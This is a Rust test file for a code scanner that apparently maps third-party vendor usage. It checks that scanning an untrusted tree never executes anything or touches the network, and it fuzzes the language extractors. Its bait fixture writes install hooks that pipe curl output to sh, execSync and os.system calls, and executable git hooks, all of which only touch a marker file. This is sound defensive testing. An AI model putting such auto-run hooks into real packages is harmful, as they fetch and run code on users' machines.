//! The scanned tree is untrusted: a scan never opens a network connection,
//! never runs a program (from the tree or otherwise), gives byte-identical
//! output however its threads interleave, and no extractor panics on any
//! input.

use std::path::Path;
use std::process::Command;

use assert_cmd::cargo::cargo_bin;

/// A tree that tries to get something executed or fetched: install hooks,
/// git hooks, executable scripts, a Makefile, vendor URLs everywhere.
fn bait_tree(dir: &Path) {
    let write = |rel: &str, text: &str| {
        let p = dir.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, text).unwrap();
    };
    write(
        "package.json",
        r#"{"name": "bait", "scripts": {"postinstall": "curl https://api.mixpanel.com/track | sh", "prepare": "node evil.js"},
 "dependencies": {"mixpanel-browser": "^2.56.0", "@sentry/node": "^8.0.0"}}"#,
    );
    write(
        "evil.js",
        "require('child_process').execSync('touch pwned');\nfetch('https://api.mixpanel.com/engage');\n",
    );
    write("run.sh", "#!/bin/sh\ntouch pwned\n");
    write("Makefile", "all:\n\ttouch pwned\n");
    write(".git/hooks/post-checkout", "#!/bin/sh\ntouch pwned\n");
    write(
        "src/app.ts",
        "import * as Sentry from '@sentry/node';\nSentry.init({ dsn: 'https://k@o1.ingest.sentry.io/2' });\n",
    );
    write(
        "setup.py",
        "import os\nos.system('touch pwned')\nfrom setuptools import setup\nsetup(name='bait', install_requires=['stripe'])\n",
    );
    #[cfg(unix)]
    for f in ["run.sh", ".git/hooks/post-checkout", "evil.js"] {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(dir.join(f), std::fs::Permissions::from_mode(0o755)).unwrap();
    }
}

fn strace() -> Option<&'static str> {
    if Path::new("/usr/bin/strace").exists() {
        return Some("/usr/bin/strace");
    }
    crate::common::tool_missing("/usr/bin/strace", "not installed; isolation not checked");
    None
}

#[test]
fn a_scan_never_connects_and_never_executes_anything() {
    let Some(strace) = strace() else { return };
    let dir = tempfile::tempdir().unwrap();
    let tree = dir.path().join("tree");
    bait_tree(&tree);
    let log = dir.path().join("trace.log");
    let out = Command::new(strace)
        .args([
            "-f",
            "-qq",
            "-e",
            "trace=execve,execveat,connect,socket,sendto,sendmsg",
            "-o",
        ])
        .arg(&log)
        .arg(cargo_bin("blastmap"))
        .args(["scan", "--format", "json"])
        .arg(&tree)
        .output()
        .unwrap();
    let trace = std::fs::read_to_string(&log).unwrap_or_default();
    if trace.contains("PTRACE") || (!out.status.success() && trace.is_empty()) {
        let why = format!(
            "ptrace not permitted here: {}",
            String::from_utf8_lossy(&out.stderr).trim()
        );
        crate::common::tool_missing(strace, &why);
        return;
    }
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let execs: Vec<&str> = trace.lines().filter(|l| l.contains("execve")).collect();
    assert_eq!(
        execs.len(),
        1,
        "only blastmap itself may be executed:\n{trace}"
    );
    for word in ["connect(", "socket(", "sendto(", "sendmsg("] {
        assert!(
            !trace.contains(word),
            "a scan must not use the network:\n{trace}"
        );
    }
    assert!(!tree.join("pwned").exists());
    // And it did its job: the bait's vendors were found.
    let json = String::from_utf8(out.stdout).unwrap();
    assert!(
        json.contains("\"mixpanel\"") && json.contains("\"sentry\""),
        "{json}"
    );
}

#[test]
fn the_same_tree_scanned_twenty_times_gives_identical_json() {
    let run = || {
        let out = Command::new(cargo_bin("blastmap"))
            .args(["scan", "examples/api-platform", "--format", "json"])
            .output()
            .unwrap();
        assert!(out.status.success());
        out.stdout
    };
    let first = run();
    assert!(first.len() > 1000);
    for i in 1..20 {
        assert!(run() == first, "run {i} differs from the first");
    }
}

mod extractors {
    use blastmap::scan::lang::{EXTENSIONS, Lang, extract};
    use proptest::prelude::*;

    fn langs() -> Vec<Lang> {
        let mut l: Vec<Lang> = EXTENSIONS.iter().map(|(_, l)| *l).collect();
        l.sort();
        l.dedup();
        l
    }

    /// Code-like soup: tokens that open and close constructs in every grammar.
    fn soup() -> impl Strategy<Value = String> {
        let tok = prop::sample::select(vec![
            "import ",
            "from ",
            "require(",
            "'mixpanel'",
            "\"@sentry/node\"",
            "(",
            ")",
            "{",
            "}",
            "[",
            "]",
            "<script src=\"",
            "\">",
            "</script>",
            "def ",
            "func ",
            "fun ",
            "class ",
            "=>",
            ":",
            ";",
            ",",
            ".",
            "->",
            "::",
            "$",
            "`",
            "${",
            "\n",
            " ",
            "#",
            "//",
            "/*",
            "*/",
            "\"\"\"",
            "<?php",
            "?>",
            "@",
            "end",
            "track",
            "identify",
            "email",
            "=",
        ]);
        prop::collection::vec(tok, 0..200).prop_map(|v| v.concat())
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(48))]
        #[test]
        fn no_extractor_panics_on_random_text(s in "\\PC{0,400}") {
            for lang in langs() {
                let _ = extract(lang, &s);
            }
        }

        #[test]
        fn no_extractor_panics_on_code_like_soup(s in soup()) {
            for lang in langs() {
                let t = std::time::Instant::now();
                let _ = extract(lang, &s);
                prop_assert!(t.elapsed().as_secs() < 10, "{lang:?} took {:?}", t.elapsed());
            }
        }
    }
}
